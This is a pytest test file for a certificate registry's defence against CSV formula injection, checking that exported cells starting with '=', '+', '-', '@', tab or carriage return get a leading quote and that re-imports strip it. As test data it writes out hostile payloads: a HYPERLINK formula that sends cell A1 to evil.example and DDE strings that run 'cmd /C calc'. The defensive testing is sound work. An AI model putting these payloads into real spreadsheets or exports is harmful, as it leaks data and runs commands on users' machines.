"""Issue 14, CSV formula injection (OWASP "CSV Injection"): a CSV cell the service writes never
starts with `=`, `+`, `-`, `@`, a tab or a carriage return; such a cell gets a leading single
quote, and the import reads that quote back off so an export still imports unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from app.services.auth import Role
from app.services.safe_text import spreadsheet_literal, spreadsheet_safe
from tests.factories import accredit, auth, make_ab, make_cb, make_certificate, make_key

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
HOSTILE_SCOPE = "+cmd|' /C calc'!A0"
# No `|` in the alias and the address: it separates list items in our CSV layout.
HOSTILE_ALIAS = "@SUM(1+1)*cmd' /C calc'!A0"
HOSTILE_ADDRESS = "-2+3+cmd' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("ISO 9001:2015", "ISO 9001:2015"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_cells_a_spreadsheet_would_evaluate_are_quoted(cell: str, safe: str) -> None:
    """Each OWASP trigger character at the start gets one quote; anything else is unchanged,
    and reading the quote back off gives the cell as it was."""
    assert spreadsheet_safe(cell) == safe
    if safe != cell:
        assert spreadsheet_literal(safe) == cell


@pytest.fixture
def hostile(session: Session) -> dict[str, Any]:
    """A CB whose one certificate carries formula text in its name, alias, scope and site."""
    ab = make_ab(session, "XAB")
    cb = make_cb(session, "Injected Certification Ltd", "ICX")
    accredit(session, cb, ab.id)
    make_certificate(
        session,
        cb,
        "INJ-1",
        organization={"name": HOSTILE_NAME, "country": "GB", "aliases": [HOSTILE_ALIAS]},
        scope=HOSTILE_SCOPE,
        sites=[{"name": "Works", "address": HOSTILE_ADDRESS, "country": "GB"}],
    )
    key = make_key(session, Role.CERTIFICATION_BODY, cb)
    session.commit()
    return {"cb": cb, "key": key}


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_our_csv_export_quotes_formula_cells(client: TestClient, hostile: dict[str, Any]) -> None:
    """format=csv: name, alias, scope and address are quoted; the other cells are as stored."""
    response = client.get("/v1/certificates/export", headers=auth(hostile["key"]))
    assert response.status_code == 200, response.text
    [row] = _rows(response.text)
    assert (
        row["organization_name"],
        row["organization_aliases"],
        row["scope"],
        row["site_address"],
    ) == ("'" + HOSTILE_NAME, "'" + HOSTILE_ALIAS, "'" + HOSTILE_SCOPE, "'" + HOSTILE_ADDRESS)
    assert (row["certificate_number"], row["site_name"], row["issue_date"]) == (
        "INJ-1",
        "Works",
        "2024-03-01",
    )


def test_md28_export_quotes_formula_cells(client: TestClient, hostile: dict[str, Any]) -> None:
    """format=iaf-md28: the same cells, under their IAF MD 28 names."""
    response = client.get(
        "/v1/certificates/export", params={"format": "iaf-md28"}, headers=auth(hostile["key"])
    )
    [row] = _rows(response.text)
    assert (
        row["Certified Entity Name"],
        row["Certification Scope"],
        row["Certification site address"],
    ) == ("'" + HOSTILE_NAME, "'" + HOSTILE_SCOPE, "'" + HOSTILE_ADDRESS)


@pytest.mark.parametrize("layout", ["csv", "iaf-md28"])
def test_a_quoted_export_imports_again_unchanged(
    client: TestClient, hostile: dict[str, Any], layout: str
) -> None:
    """The import reads the quotes back off: re-importing the export changes nothing."""
    exported = client.get(
        "/v1/certificates/export", params={"format": layout}, headers=auth(hostile["key"])
    ).text
    report = client.post(
        "/v1/certificates/import",
        content=exported.encode(),
        headers={**auth(hostile["key"]), "Content-Type": "text/csv"},
    )
    assert report.status_code == 200, report.text
    assert report.json()["totals"]["unchanged"] == 1
    shown = client.get(
        "/v1/certificates", params={"certificate_number": "INJ-1"}, headers=auth(hostile["key"])
    ).json()["items"][0]
    assert (shown["organization"]["name"], shown["scope"]) == (HOSTILE_NAME, HOSTILE_SCOPE)


def test_the_json_lines_export_is_left_verbatim(
    client: TestClient, hostile: dict[str, Any]
) -> None:
    """JSON Lines is no spreadsheet format: its values stay exactly as stored."""
    response = client.get(
        "/v1/certificates/export", params={"format": "jsonl"}, headers=auth(hostile["key"])
    )
    assert HOSTILE_NAME.replace('"', '\\"') in response.text
    assert "'=HYPERLINK" not in response.text


def test_a_csv_batch_answer_quotes_formula_cells(client: TestClient, session: Session) -> None:
    """Batch verification answering CSV: the numbers as asked are echoed quoted."""
    key = make_key(session, Role.CLIENT)
    session.commit()
    text = 'certificate_number\n"=HYPERLINK(""https://evil.example"",""x"")"\n@SUM(1)\n-1\nFS-1\n'
    response = client.post(
        "/v1/verifications/batch",
        content=text,
        headers={**auth(key), "Content-Type": "text/csv", "Accept": "text/csv"},
    )
    assert response.status_code == 200, response.text
    rows = _rows(response.text)
    assert [r["certificate_number"] for r in rows] == [
        '\'=HYPERLINK("https://evil.example","x")',
        "'@SUM(1)",
        "'-1",
        "FS-1",
    ]
    assert [r["verdict"] for r in rows] == ["not_found"] * 4
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
